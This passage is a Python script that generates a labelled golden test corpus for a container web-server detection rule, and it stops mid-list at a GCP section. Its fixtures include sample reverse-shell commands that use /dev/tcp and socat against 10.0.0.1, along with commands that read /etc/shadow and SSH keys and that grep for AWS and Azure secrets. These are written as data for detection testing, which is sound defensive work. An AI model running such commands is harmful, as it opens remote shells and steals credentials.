#!/usr/bin/env python3
"""Generate the golden corpus for the seed rule
(rules/defend-for-containers/persistence_suspicious_webserver_child_process_execution.toml).

Every case below carries a label (`expect`) and a one-sentence `why` that was
decided BY HAND from the rule text and /work/shared/docs/eql-semantics.md.
This script only builds the ECS documents around those hand-written labels;
it contains no matcher and never computes a verdict.

Run:  python3 sensor/tests/golden/gen_corpus.py
Output: sensor/tests/golden/seed_rule_corpus.jsonl (one case per line)
"""
import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "seed_rule_corpus.jsonl")

CID = "3f4e1c2b9a8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f"
MISSING = object()  # sentinel: leave the field out of the document
BASE = "cat /etc/passwd"  # matches "*/etc/passwd*"; no exclusion string ever matches it

DEFAULT_PARENT_ARGS = {
    "nginx": ["nginx", "-g", "daemon off;"],
    "apache2": ["/usr/sbin/apache2", "-DFOREGROUND"],
    "httpd": ["httpd", "-DFOREGROUND"],
    "caddy": ["caddy", "run", "--config", "/etc/caddy/Caddyfile"],
    "uwsgi": ["uwsgi", "--ini", "/etc/uwsgi/app.ini"],
    "gunicorn": ["gunicorn", "app:app"],
    "php-fpm8.2": ["php-fpm: pool www"],
    "php-cgi": ["php-cgi"],
}

_pid = [4000]
CASES = []
IDS = set()


def _next_pid():
    _pid[0] += 7
    return _pid[0]


def ev(payload=BASE, *, args=None, name="sh", parent="nginx", pargs=None,
       pint=False, cid=CID, cat=("process",), etype=("start",), action="exec",
       kind="event", interactive=False, exe=None, pexe=None):
    """Build a nested ECS process event. Any field given as MISSING is left out."""
    if args is None:
        if name == "busybox":
            args = ["busybox", "sh", "-c", payload]
        else:
            args = [name, "-c", payload]
    if pargs is None and parent is not MISSING:
        pargs = DEFAULT_PARENT_ARGS.get(parent, [parent])
    pid = _next_pid()
    proc = {
        "pid": pid,
        "name": name,
        "executable": exe if exe is not None else ("/bin/" + name if isinstance(name, str) else None),
        "args": args,
        "args_count": len(args) if isinstance(args, list) else None,
        "command_line": " ".join(a for a in args if isinstance(a, str)) if isinstance(args, list) else None,
        "interactive": interactive,
        "entity_id": "e-%d" % pid,
        "parent": {
            "pid": pid - 3,
            "name": parent,
            "executable": pexe if pexe is not None else ("/usr/sbin/" + parent if isinstance(parent, str) else None),
            "args": pargs,
            "interactive": pint,
        },
    }
    doc = {
        "@timestamp": "2026-03-05T12:00:00.000Z",
        "event": {
            "kind": kind,
            "category": list(cat) if isinstance(cat, tuple) else cat,
            "type": list(etype) if isinstance(etype, tuple) else etype,
            "action": action,
            "ingested": "2026-03-05T12:00:00.100Z",
        },
        "host": {"hostname": "web-01"},
        "user": {"id": "33", "name": "www-data"},
        "process": proc,
        "container": {"id": cid, "runtime": "containerd"},
    }
    return _strip(doc)


def _strip(v):
    if isinstance(v, dict):
        return {k: _strip(x) for k, x in v.items() if x is not MISSING}
    if isinstance(v, list):
        return [_strip(x) for x in v if x is not MISSING]
    return v


def flatten(doc, prefix=""):
    """Fully dotted-key form of a nested document."""
    out = {}
    for k, v in doc.items():
        key = prefix + k
        if isinstance(v, dict):
            out.update(flatten(v, key + "."))
        else:
            out[key] = v
    return out


def case(cid, expect, why, event):
    assert cid not in IDS, "duplicate id " + cid
    assert isinstance(expect, bool)
    assert why and len(why) > 10
    IDS.add(cid)
    CASES.append({"id": cid, "expect": expect, "why": why, "event": event})


def T(cid, why, event):
    case(cid, True, why, event)


def F(cid, why, event):
    case(cid, False, why, event)


# ---------------------------------------------------------------------------
# pin: process.parent.name in (...) — exact, case-sensitive membership
# ---------------------------------------------------------------------------
IN_PARENTS = ["nginx", "apache2", "httpd", "caddy", "mongrel_rails", "uwsgi", "daphne",
              "httpd.worker", "flask", "php-cgi", "php-fcgi", "php-cgi.cagefs", "lswsctrl",
              "varnishd", "uvicorn", "waitress-serve", "starman"]
for p in IN_PARENTS:
    T("pin-%s" % p, "parent.name '%s' is in the parent `in` list; child sh -c 'cat /etc/passwd' matches \"*/etc/passwd*\"; no exclusion matches that payload." % p,
      ev(parent=p))

for p, reason in [
    ("NGINX", "`in` is case-sensitive, so 'NGINX' != 'nginx'"),
    ("Nginx", "`in` is case-sensitive, so 'Nginx' != 'nginx'"),
    ("nginx-debug", "`in` is exact membership (no prefix match) and no `like` parent pattern fits 'nginx-debug'"),
    ("nginx ", "`in` is exact: a trailing space makes 'nginx ' a different value"),
    ("apache", "'apache' is not in the list (only 'apache2') and fits no parent pattern"),
    ("httpd-worker", "the list has 'httpd.worker'; '-' differs from '.' under exact `in`"),
    ("caddy2", "`in` is exact; 'caddy2' is not listed"),
    ("uWSGI", "`in` is case-sensitive; 'uWSGI' != 'uwsgi'"),
    ("Daphne", "`in` is case-sensitive; 'Daphne' != 'daphne'"),
    ("flask-app", "`in` is exact; 'flask-app' is not listed and the python* branch needs a python* name"),
    ("php-cgi8.1", "`in` is exact and 'php-cgi8.1' ends with neither '.cgi' nor '.fcgi'"),
    ("varnish", "`in` is exact; only 'varnishd' is listed"),
    ("starman worker", "`in` is exact; 'starman worker' != 'starman'"),
    ("waitress", "`in` is exact; only 'waitress-serve' is listed"),
    ("mongrel", "`in` is exact; only 'mongrel_rails' is listed"),
    ("", "an empty parent name equals no listed name and fits no parent pattern"),
    ("python3", "a python* parent only qualifies with a matching parent arg; its args ['python3'] contain none of the python patterns"),
]:
    F("pin-miss-%s" % (p.replace(" ", "_") or "empty"), "Parent branch fails: %s." % reason, ev(parent=p))
F("pin-miss-missing", "process.parent.name is missing: `in`, `like` and `==` on a missing field are all false, so no parent branch holds.",
  ev(parent=MISSING, pargs=MISSING))

# ---------------------------------------------------------------------------
# plk: process.parent.name like ("php-fpm*", "gunicorn*", "*.cgi", "*.fcgi")
# ---------------------------------------------------------------------------
for p, pat in [("php-fpm", "php-fpm*"), ("php-fpm8.2", "php-fpm*"), ("php-fpm: pool www", "php-fpm*"),
               ("php-fpm7", "php-fpm*"), ("gunicorn", "gunicorn*"), ("gunicorn: worker [app]", "gunicorn*"),
               ("index.cgi", "*.cgi"), (".cgi", "*.cgi"), ("awstats.pl.cgi", "*.cgi"),
               ("app.fcgi", "*.fcgi"), ("dispatch.fcgi", "*.fcgi")]:
    T("plk-%s" % p.replace(" ", "_").replace(":", "").replace("[", "").replace("]", ""),
      "parent.name '%s' matches like \"%s\" (`*` may be empty or any run); child payload matches \"*/etc/passwd*\"." % (p, pat),
      ev(parent=p))
for p, reason in [
    ("PHP-FPM", "`like` is case-sensitive, 'PHP-FPM' does not fit \"php-fpm*\""),
    ("php_fpm", "'_' is not '-', so \"php-fpm*\" does not fit"),
    ("xphp-fpm", "\"php-fpm*\" is anchored at the start of the whole value"),
    ("Gunicorn", "`like` is case-sensitive, 'Gunicorn' does not fit \"gunicorn*\""),
    ("green-unicorn", "does not start with 'gunicorn'"),
    ("index.CGI", "`like` is case-sensitive, '.CGI' does not fit \"*.cgi\""),
    ("index.cgi.bak", "\"*.cgi\" must match the whole value, which ends in '.bak'"),
    ("cgi", "\"*.cgi\" needs the literal '.cgi'"),
    ("indexcgi", "'.' in a wildcard pattern is literal, so 'indexcgi' does not fit \"*.cgi\""),
    ("app.FCGI", "`like` is case-sensitive, '.FCGI' does not fit \"*.fcgi\""),
    ("fcgi", "\"*.fcgi\" needs the literal '.fcgi'"),
]:
    F("plk-miss-%s" % p.replace(".", "_"), "Parent branch fails: %s, and the name is in no other list." % reason, ev(parent=p))

# ---------------------------------------------------------------------------
# rb / py / pl: interpreter parents with like~ args
# ---------------------------------------------------------------------------
for i, (n, pa, ok, why) in enumerate([
    ("ruby", ["ruby", "/usr/local/bundle/bin/puma", "-C", "config/puma.rb"], True, "name like \"ruby*\" and an arg matches like~ \"*puma*\""),
    ("ruby3.2", ["ruby3.2", "bin/rails", "server", "-b", "0.0.0.0"], True, "'ruby3.2' fits \"ruby*\" and 'bin/rails' matches like~ \"*rails*\""),
    ("ruby", ["ruby", "/usr/bin/passenger", "start"], True, "arg matches like~ \"*passenger*\""),
    ("ruby", ["ruby", "/usr/local/bin/PUMA"], True, "like~ is case-insensitive, so 'PUMA' matches \"*puma*\""),
    ("ruby", ["ruby", "Passenger"], True, "like~ folds ASCII case: 'Passenger' matches \"*passenger*\""),
    ("ruby", ["ruby", "/usr/local/bin/sidekiq"], False, "no parent arg contains puma, rails or passenger"),
    ("Ruby", ["Ruby", "bin/rails", "s"], False, "name `like \"ruby*\"` is case-sensitive, 'Ruby' fails"),
    ("jruby", ["jruby", "bin/rails", "s"], False, "\"ruby*\" is anchored at the start; 'jruby' fails"),
    ("ruby", MISSING, False, "process.parent.args is missing, so the like~ on it is false"),
    ("ruby", ["ruby", "bin/rai", "ls"], False, "'rails' only appears across two elements; each element is tested alone"),
    ("ruby", ["ruby", "bin/RAIL\u017f"], False, "U+017F (long s) is non-ASCII and does not fold to 's' in Elasticsearch, so \"*rails*\" fails"),
]):
    (T if ok else F)("rb-%02d" % i, "Ruby branch: %s." % why, ev(parent=n, pargs=pa))

for i, (n, pa, ok, why) in enumerate([
    ("python3", ["python3", "-m", "hypercorn", "app:app"], True, "arg matches like~ \"*hypercorn*\""),
    ("python3", ["python3", "-m", "flask", "run"], True, "arg matches like~ \"*flask*\""),
    ("python", ["python", "-m", "uvicorn", "main:app"], True, "'python' fits \"python*\" (empty star) and arg matches \"*uvicorn*\""),
    ("python3.11", ["python3.11", "/usr/local/bin/django-admin", "runserver"], True, "arg matches like~ \"*django*\""),
    ("python3", ["python3", "app.py"], True, "arg matches like~ \"*app.py*\""),
    ("python3", ["python3", "/srv/server.py"], True, "arg matches like~ \"*server.py*\""),
    ("python3", ["python3", "/srv/proj/wsgi.py"], True, "arg matches like~ \"*wsgi.py*\""),
    ("python3", ["python3", "/srv/proj/asgi.py"], True, "arg matches like~ \"*asgi.py*\""),
    ("python3", ["python3", "-m", "FLASK", "run"], True, "like~ folds ASCII case, 'FLASK' matches \"*flask*\""),
    ("python3", ["python3", "/srv/myapp.py"], True, "'myapp.py' contains 'app.py', so \"*app.py*\" matches"),
    ("python", ["python", "/srv/APP.PY"], True, "like~ folds ASCII case, 'APP.PY' matches \"*app.py*\""),
    ("python3", ["python3", "/srv/caf\u00e9/app.py"], True, "non-ASCII text elsewhere in the value does not stop \"*app.py*\" matching"),
    ("python3", ["python3", "manage.py", "runserver", "0.0.0.0:8000"], False, "Django's manage.py runserver contains none of the eight python patterns ('runserver' is not 'server.py')"),
    ("python3", ["python3", "/srv/application.py"], False, "'application.py' does not contain the contiguous text 'app.py'"),
    ("python3", ["/usr/bin/python3", "/usr/local/bin/gunicorn", "app:app"], False, "gunicorn is not a python-branch arg pattern and the parent name is not gunicorn*"),
    ("Python3", ["Python3", "app.py"], False, "name `like \"python*\"` is case-sensitive, 'Python3' fails"),
    ("ipython", ["ipython", "app.py"], False, "\"python*\" is anchored at the start; 'ipython' fails"),
    ("python3", ["python3", "-m", "fla\u017fk", "run"], False, "U+017F (long s) does not fold to 's' (ASCII-only folding), so \"*flask*\" fails"),
    ("python3", ["python3", "-m", "UV\u0130CORN"], False, "U+0130 (dotted capital I) is non-ASCII and is not folded to 'i', so \"*uvicorn*\" fails"),
    ("python3", ["python3", "app.p", "y"], False, "'app.py' spans two elements; no single element matches"),
]):
    (T if ok else F)("py-%02d" % i, "Python branch: %s." % why, ev(parent=n, pargs=pa))

for i, (n, pa, ok, why) in enumerate([
    ("perl", ["perl", "/usr/local/bin/plackup", "-p", "5000"], True, "name like \"perl*\" and arg matches like~ \"*plackup*\""),
    ("perl5.36", ["perl5.36", "/usr/bin/plackup"], True, "'perl5.36' fits \"perl*\" and arg matches \"*plackup*\""),
    ("perl", ["perl", "/usr/bin/PLACKUP"], True, "like~ folds ASCII case, 'PLACKUP' matches \"*plackup*\""),
    ("perl", ["perl", "/usr/local/bin/starman"], False, "perl branch needs \"*plackup*\"; the parent name is 'perl', not 'starman'"),
    ("Perl", ["Perl", "/usr/bin/plackup"], False, "name `like \"perl*\"` is case-sensitive"),
    ("perl", ["perl", "/usr/bin/plac\u212aup"], False, "U+212A (Kelvin sign) is non-ASCII and does not fold to 'k', so \"*plackup*\" fails"),
    ("perl", ["perl", "plack", "up"], False, "'plackup' spans two elements; each is tested alone"),
]):
    (T if ok else F)("pl-%02d" % i, "Perl branch: %s." % why, ev(parent=n, pargs=pa))

# ---------------------------------------------------------------------------
# nd: node branch (name == "node", args like~ include, not args like exclusions)
# ---------------------------------------------------------------------------
NODE_INC = [
    ("next-start", ["node", "/usr/local/bin/next start"], "*next start*"),
    ("port", ["node", "server.mjs", "--port", "3000"], "*--port*"),
    ("port-upper", ["node", "server.mjs", "--PORT", "3000"], "*--port*"),
    ("port-eq", ["node", "bin/www", "PORT=8080"], "*PORT=*"),
    ("port-eq-lower", ["node", "bin/www", "port=8080"], "*PORT=*"),
    ("host-eq", ["node", "bin/www", "HOST=localhost"], "*HOST=*"),
    ("anyaddr", ["node", "bin/www", "0.0.0.0:8080"], "*0.0.0.0*"),
    ("dist", ["node", "./dist/bundle.js"], "*/dist/*.js*"),
    ("build", ["node", "./build/bundle.js"], "*/build/*.js*"),
    ("server", ["node", "./server/bundle.js"], "*/server/*.js*"),
    ("app", ["node", "/app/bundle.js"], "*/app/*.js*"),
    ("apps", ["node", "./apps/api/bundle.js"], "*/apps/*/*.js*"),
    ("index", ["node", "./index.js"], "*/index.js*"),
    ("main", ["node", "./main.js"], "*/main.js*"),
    ("srv", ["node", "/srv/bundle.js"], "*/srv/*"),
    ("opt", ["node", "/opt/svc/bundle.js"], "*/opt/*"),
    ("varwww", ["node", "/var/www/bundle.js"], "*/var/www/*"),
    ("mjs-dist", ["node", "/usr/src/dist/server.mjs"], "*/dist/*.js*"),
]
for tag, pa, pat in NODE_INC:
    if tag == "mjs-dist":
        F("nd-inc-%s" % tag, "Node branch: '.mjs' does not contain '.js' ('.m' precedes 'js'), so \"%s\" fails and no other include pattern fits." % pat,
          ev(parent="node", pargs=pa))
        continue
    T("nd-inc-%s" % tag, "Node branch: a parent arg matches like~ \"%s\" and no arg matches any exclusion pattern." % pat,
      ev(parent="node", pargs=pa))

for tag, n, pa, why in [
    ("plain-bundle", "node", ["node", "bundle.js"], "'bundle.js' has no directory part and fits none of the include patterns"),
    ("plain-index", "node", ["node", "index.js"], "\"*/index.js*\" needs a '/' before 'index.js'"),
    ("plain-main", "node", ["node", "main.js"], "\"*/main.js*\" needs a '/' before 'main.js'"),
    ("next-split", "node", ["node", "node_modules/.bin/next", "start"], "\"*next start*\" cannot match when 'next' and 'start' are separate argv elements"),
    ("dist-nojs", "node", ["node", "./dist"], "\"*/dist/*.js*\" needs '/dist/' followed by '.js'"),
    ("apps-flat", "node", ["node", "./apps/api.js"], "\"*/apps/*/*.js*\" needs a further '/' after '/apps/X' and '/apps/' is not '/app/'"),
    ("srv-noslash", "node", ["node", "/srv"], "\"*/srv/*\" needs the trailing '/'"),
    ("nodejs", "nodejs", ["nodejs", "/app/index.js"], "`process.parent.name == \"node\"` is exact; 'nodejs' fails"),
    ("Node", "Node", ["Node", "/app/index.js"], "`==` is case-sensitive; 'Node' fails"),
    ("noargs", "node", MISSING, "process.parent.args missing: the include like~ is false"),
    ("emptyargs", "node", [], "an empty parent.args array has no value, so the include like~ is false"),
]:
    F("nd-miss-%s" % tag, "Node branch fails: %s." % why, ev(parent=n, pargs=pa))

for tag, pa, why in [
    ("cursor", ["node", "/opt/cursor-agent/index.js"], "matches exclusion \"/opt/cursor-agent/*\""),
    ("home", ["node", "/home/bob/app/server/index.js"], "matches exclusion \"/home/*/*\""),
    ("root", ["node", "/root/app/index.js"], "matches exclusion \"/root/*\""),
    ("vscode", ["node", "/opt/vscode-server/bin/server-main.js"], "matches exclusion \"/opt/vscode-server/*\""),
    ("openclaw", ["node", "/usr/lib/node_modules/openclaw/dist/index.js"], "equals exclusion \"/usr/lib/node_modules/openclaw/dist/index.js\""),
    ("any-elem", ["node", "/srv/app/index.js", "--config", "/root/cfg.json"], "one element '/root/cfg.json' matches \"/root/*\"; `not` over an array means NO element may match"),
    ("argv0", ["/root/.nvm/versions/node/v20.11.0/bin/node", "/srv/index.js"], "argv[0] is a parent arg too and matches \"/root/*\""),
    ("openclaw-port", ["node", "/usr/lib/node_modules/openclaw/dist/index.js", "--port", "3000"], "the openclaw element still equals the exclusion, excluding the whole event"),
    ("cursor-last", ["node", "--port", "3000", "/opt/cursor-agent/x"], "the last element matches \"/opt/cursor-agent/*\""),
]:
    F("nd-excl-%s" % tag, "Node branch: include matches but a parent arg %s, so the node branch is false." % why,
      ev(parent="node", pargs=pa))

for tag, pa, why in [
    ("home-noslash", ["node", "/srv/index.js", "/home/bob"], "'/home/bob' has no second '/' so \"/home/*/*\" does not match it"),
    ("Root-case", ["node", "/Root/app/index.js"], "exclusions use case-sensitive `like`, so '/Root/...' escapes \"/root/*\" while the like~ include \"*/app/*.js*\" matches"),
    ("HOME-case", ["node", "/HOME/bob/app/index.js"], "case-sensitive exclusion \"/home/*/*\" does not match '/HOME/...'; include like~ \"*/index.js*\" matches"),
    ("vscode-insiders", ["node", "/opt/vscode-server-insiders/x.js"], "'/opt/vscode-server-insiders/' does not start with '/opt/vscode-server/'; include \"*/opt/*\" matches"),
    ("openclaw-local", ["node", "/usr/local/lib/node_modules/openclaw/dist/index.js"], "the openclaw exclusion is an exact path under /usr/lib, not /usr/local/lib"),
    ("root-flag", ["node", "--root=/root/x", "/srv/index.js"], "exclusions match the WHOLE value, and '--root=/root/x' does not start with '/root/'"),
]:
    T("nd-escape-%s" % tag, "Node branch holds: %s." % why, ev(parent="node", pargs=pa))

# ---------------------------------------------------------------------------
# jv: java branch, each class / -D pattern, with near misses
# ---------------------------------------------------------------------------
JAVA = [
    # (tag, pattern, positive value, near-miss value, near-miss reason)
    ("tomcat", "org.apache.catalina.startup.Bootstrap", "org.apache.catalina.startup.Bootstrap",
     "org.apache.catalina.startup.Bootstrap2", "exact pattern (no wildcard) vs a value with a suffix"),
    ("catalina-base", "-Dcatalina.base=*", "-Dcatalina.base=/usr/local/tomcat",
     "-Dcatalina.home=/usr/local/tomcat", "'-Dcatalina.home=' is not '-Dcatalina.base='"),
    ("jetty", "org.eclipse.jetty.start.Main", "org.eclipse.jetty.start.Main",
     "org.eclipse.jetty.start.MainX", "exact pattern vs suffixed value"),
    ("jetty-home", "-Djetty.home=*", "-Djetty.home=/usr/local/jetty",
     "-Djetty.base=/var/lib/jetty", "'-Djetty.base=' is not '-Djetty.home='"),
    ("jboss", "org.jboss.modules.Main", "org.jboss.modules.Main",
     "org.jboss.modules.MainLoader", "exact pattern vs suffixed value"),
    ("jboss-home", "-Djboss.home.dir=*", "-Djboss.home.dir=/opt/jboss/wildfly",
     "-Djboss.server.base.dir=/opt/jboss/wildfly/standalone", "different -D property"),
    ("weblogic", "weblogic.Server", "weblogic.Server",
     "weblogic.ServerX", "exact pattern vs suffixed value"),
    ("weblogic-name", "-Dweblogic.Name=*", "-Dweblogic.Name=AdminServer",
     "-Dweblogic.Name", "the pattern needs the '=' after the name"),
    ("weblogic-launcher", "*weblogic-launcher.jar*", "/u01/oracle/wlserver/server/lib/weblogic-launcher.jar",
     "/u01/oracle/wlserver/server/lib/weblogic_launcher.jar", "'_' is not '-'"),
    ("websphere", "com.ibm.ws.runtime.WsServer", "com.ibm.ws.runtime.WsServer",
     "com.ibm.ws.runtime.WsServerImpl", "exact pattern vs suffixed value"),
    ("liberty", "com.ibm.ws.kernel.boot.cmdline.Bootstrap", "com.ibm.ws.kernel.boot.cmdline.Bootstrap",
     "com.ibm.ws.kernel.boot.cmdline.BootstrapX", "exact pattern vs suffixed value"),
    ("glassfish", "com.sun.enterprise.glassfish.bootstrap.ASMain", "com.sun.enterprise.glassfish.bootstrap.ASMain",
     "com.sun.enterprise.glassfish.bootstrap.ASMainHelper", "exact pattern vs suffixed value"),
    ("resin", "com.caucho.server.resin.Resin", "com.caucho.server.resin.Resin",
     "com.caucho.server.resin.ResinMain", "exact pattern vs suffixed value"),
    ("spring", "org.springframework.boot.loader.*", "org.springframework.boot.loader.launch.JarLauncher",
     "org.springframework.boot.SpringApplication", "does not start with 'org.springframework.boot.loader.'"),
    ("quarkus-jar", "*quarkus-run.jar*", "/deployments/quarkus-run.jar",
     "/deployments/quarkus-app.jar", "'quarkus-app.jar' is not 'quarkus-run.jar'"),
    ("quarkus-main", "io.quarkus.runner.GeneratedMain", "io.quarkus.runner.GeneratedMain",
     "io.quarkus.runner.GeneratedMainX", "exact pattern vs suffixed value"),
    ("micronaut", "io.micronaut.runtime.Micronaut", "io.micronaut.runtime.Micronaut",
     "io.micronaut.runtime.MicronautApp", "exact pattern vs suffixed value"),
    ("dropwizard", "io.dropwizard.cli.ServerCommand", "io.dropwizard.cli.ServerCommand",
     "io.dropwizard.cli.ServerCommands", "exact pattern vs suffixed value"),
    ("play", "play.core.server.ProdServerStart", "play.core.server.ProdServerStart",
     "play.core.server.ProdServerStarter", "exact pattern vs suffixed value"),
    ("helidon-mp", "io.helidon.microprofile.server.Main", "io.helidon.microprofile.server.Main",
     "io.helidon.microprofile.server.MainX", "exact pattern vs suffixed value"),
    ("helidon-ws", "io.helidon.webserver*", "io.helidon.webserver.WebServer",
     "x.io.helidon.webserver", "the pattern is anchored at the start of the value"),
    ("vertx", "io.vertx.core.Launcher", "io.vertx.core.Launcher",
     "io.vertx.core.Launcher2", "exact pattern vs suffixed value"),
    ("keycloak", "org.keycloak*", "org.keycloak.quarkus._private.IDELauncher",
     "com.keycloak.Main", "does not start with 'org.keycloak'"),
    ("cas", "org.apereo.cas*", "org.apereo.cas.web.CasWebApplication",
     "org.apereo.Main", "does not start with 'org.apereo.cas'"),
    ("elasticsearch", "org.elasticsearch.bootstrap.Elasticsearch", "org.elasticsearch.bootstrap.Elasticsearch",
     "org.elasticsearch.bootstrap.ElasticsearchX", "exact pattern vs suffixed value"),
    ("jira", "com.atlassian.jira.startup.Launcher", "com.atlassian.jira.startup.Launcher",
     "com.atlassian.jira.startup.LauncherContextListener", "exact pattern vs suffixed value"),
    ("bitbucket", "*BitbucketServerLauncher*", "com.atlassian.bitbucket.internal.launcher.BitbucketServerLauncher",
     "com.atlassian.bitbucket.internal.launcher.BitbucketLauncher", "'BitbucketLauncher' lacks 'Server'"),
    ("gerrit", "com.google.gerrit.pgm.Daemon", "com.google.gerrit.pgm.Daemon",
     "com.google.gerrit.pgm.Daemon.run", "exact pattern vs suffixed value"),
    ("solr", "*-Dsolr.solr.home=*", "-Dsolr.solr.home=/var/solr/data",
     "-Dsolr.home=/var/solr/data", "'-Dsolr.home=' does not contain '-Dsolr.solr.home='"),
    ("jenkins", "*jenkins.war*", "/usr/share/java/jenkins.war",
     "/usr/share/java/jenkins.jar", "'jenkins.jar' does not contain 'jenkins.war'"),
]
for tag, pat, pos, neg, reason in JAVA:
    T("jv-%s" % tag, "Java branch: parent 'java' has arg '%s' matching like~ \"%s\"." % (pos, pat),
      ev(parent="java", pargs=["java", "-Xmx512m", pos]))
    F("jv-miss-%s" % tag, "Java branch fails: arg '%s' does not match like~ \"%s\" (%s) nor any other java pattern." % (neg, pat, reason),
      ev(parent="java", pargs=["java", "-Xmx512m", neg]))

for tag, n, pa, ok, why in [
    ("upper", "java", ["java", "ORG.APACHE.CATALINA.STARTUP.BOOTSTRAP", "start"], True, "like~ folds ASCII case, so the upper-cased class name matches the exact pattern 'org.apache.catalina.startup.Bootstrap'"),
    ("lower", "java", ["java", "org.apache.catalina.startup.bootstrap"], True, "like~ folds ASCII case: 'bootstrap' matches 'Bootstrap'"),
    ("dlower", "java", ["java", "-dcatalina.base=/x"], True, "like~ folds ASCII case: '-dcatalina.base=' matches \"-Dcatalina.base=*\""),
    ("cas-case", "java", ["java", "org.apereo.CasMain"], True, "like~ is case-insensitive, so 'org.apereo.CasMain' fits \"org.apereo.cas*\""),
    ("spring-empty-star", "java", ["java", "org.springframework.boot.loader."], True, "the trailing `*` of \"org.springframework.boot.loader.*\" may match nothing"),
    ("bitbucket-lower", "java", ["java", "bitbucketserverlauncher"], True, "like~ folds ASCII case for \"*BitbucketServerLauncher*\""),
    ("tomcat-realistic", "java", ["java", "-Djava.util.logging.config.file=/usr/local/tomcat/conf/logging.properties",
                                  "-classpath", "/usr/local/tomcat/bin/bootstrap.jar:/usr/local/tomcat/bin/tomcat-juli.jar",
                                  "-Dcatalina.base=/usr/local/tomcat", "org.apache.catalina.startup.Bootstrap", "start"], True,
     "a realistic Tomcat command line: '-Dcatalina.base=...' and the Bootstrap class both match"),
    ("dots-literal", "java", ["java", "org_apache_catalina_startup_Bootstrap"], False, "'.' in a wildcard pattern is a literal dot, not 'any character'"),
    ("dots-literal2", "java", ["java", "weblogicXServer"], False, "'.' in \"weblogic.Server\" is literal"),
    ("kelvin", "java", ["java", "org.\u212aeycloak.Main"], False, "U+212A (Kelvin sign) does not fold to 'k' (ASCII-only folding), so \"org.keycloak*\" fails"),
    ("tomcat-joined", "java", ["java", "org.apache.catalina.startup.Bootstrap start"], False, "the exact pattern must match the whole element; ' start' is extra"),
    ("tomcat-prefix", "java", ["java", "-cp=org.apache.catalina.startup.Bootstrap"], False, "the exact pattern must match from the start of the element"),
    ("jar-only", "java", ["java", "-jar", "/app/app.jar"], False, "a plain '-jar app.jar' matches none of the java patterns"),
    ("Java", "Java", ["Java", "org.apache.catalina.startup.Bootstrap"], False, "`process.parent.name == \"java\"` is case-sensitive"),
    ("javaw", "javaw", ["javaw", "org.apache.catalina.startup.Bootstrap"], False, "`==` is exact; 'javaw' != 'java'"),
    ("noargs", "java", MISSING, False, "process.parent.args missing, like~ is false"),
]:
    (T if ok else F)("jv-x-%s" % tag, "Java branch: %s." % why, ev(parent=n, pargs=pa))

# ---------------------------------------------------------------------------
# arg: the big process.args like (...) list — one positive per pattern
# ---------------------------------------------------------------------------
ROTATE = ["nginx", "httpd", "caddy", "uwsgi", "gunicorn", "php-fpm8.2", "apache2", "httpd.worker", "daphne", "varnishd"]
SHELLS = ["sh", "bash", "dash", "zsh", "ksh"]
ARG_POS = [
    # Suspicious paths
    ("path", "* /tmp/* ", "ls -la /tmp/.x "),
    ("path", "* /var/tmp/* ", "ls -la /var/tmp/.x "),
    ("path", "* /dev/shm/*", "ls /dev/shm/x"),
    ("path", "* /var/www/*", "cat /var/www/html/config.inc"),
    ("path", "* /run/*", "ls /run/user"),
    ("path", "* /var/run/*", "ls /var/run/docker.sock"),
    # Interpreter execution
    ("interp", "*python* -c*", "python3 -c 'import os'"),
    ("interp", "*php* -r*", "php -r 'phpinfo();'"),
    ("interp", "*perl* -e*", "perl -e 'print 1'"),
    ("interp", "*ruby* -e*", "ruby -e 'puts 1'"),
    ("interp", "*lua* -e*", "lua -e 'print(1)'"),
    ("interp", "*node * -e *", "node --no-warnings -e 'process.exit(0)'"),
    # Encoding
    ("enc", "*base64 -*d*", "base64 -d p.b64"),
    ("enc", "*base64 -*d*", "base64 --decode p.b64"),
    ("enc", "*|*base64 *", "cat p.txt|base64 -w0"),
    ("enc", "*xxd *", "xxd -r -p p.hex"),
    ("enc", "*openssl*enc * -d *", "openssl enc -aes-256-cbc -d -in p.enc"),
    # Reverse shells
    ("rev", "*netcat *", "netcat 10.0.0.1 4444"),
    ("rev", "* nc *", "exec nc 10.0.0.1 4444"),
    ("rev", "*ncat *", "ncat 10.0.0.1 4444"),
    ("rev", "*/dev/tcp*", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
    ("rev", "*/dev/udp/*", "exec 3<>/dev/udp/10.0.0.1/53"),
    ("rev", " *socat *", " socat tcp:10.0.0.1:4444 exec:sh"),
    ("rev", "*openssl*s_client *", "openssl s_client -connect 10.0.0.1:443"),
    ("rev", "*stty*raw*-echo*", "stty raw -echo"),
    # File access
    ("file", "*>*/etc/cron*", "cat job >> /etc/cron.d/job"),
    ("file", "*/etc/ssh*", "cat /etc/ssh/sshd_config"),
    ("file", "*/home/*/.ssh/*", "cat /home/bob/.ssh/id_rsa"),
    ("file", "*/root/.ssh*", "ls /root/.ssh"),
    ("file", "*~/.ssh/*", "cat ~/.ssh/id_rsa"),
    ("file", "*/etc/shadow*", "cat /etc/shadow"),
    ("file", "*/etc/passwd*", "cat /etc/passwd"),
    ("file", "*chpasswd*", "chpasswd < users.txt"),
    # AWS
    ("aws", "*aws_access_key_id*", "grep -r aws_access_key_id /srv"),
    ("aws", "*aws_secret_access_key*", "grep aws_secret_access_key .env"),
    ("aws", "*aws_session_token*", "grep aws_session_token .env"),
    ("aws", "*accesskeyid*", "grep -i accesskeyid conf.json"),
    ("aws", "*secretaccesskey*", "grep -i secretaccesskey conf.json"),
    ("aws", "*access_key*", "grep access_key conf.ini"),
    ("aws", "*.aws/credentials*", "cat .aws/credentials"),
    ("aws", "*/.aws/config*", "cat /srv/.aws/config"),
    # Azure
    ("az", "*AZURE_CLIENT_ID*", "printenv AZURE_CLIENT_ID"),
    ("az", "*AZURE_TENANT_ID*", "printenv AZURE_TENANT_ID"),
    ("az", "*AZURE_CLIENT_SECRET*", "printenv AZURE_CLIENT_SECRET"),
    ("az", "*AZURE_FEDERATED_TOKEN_FILE*", "printenv AZURE_FEDERATED_TOKEN_FILE"),
    ("az", "*IDENTITY_ENDPOINT*", "printenv IDENTITY_ENDPOINT"),
    ("az", "*IDENTITY_HEADER*", "printenv IDENTITY_HEADER"),
    ("az", "*MSI_ENDPOINT*", "printenv MSI_ENDPOINT"),
    ("az", "*MSI_SECRET*", "printenv MSI_SECRET"),
    ("az", "*/.azure/*", "ls /srv/.azure/"),
    ("az", "*/run/secrets/azure/*", "cat /host/run/secrets/azure/token"),
    # GCP
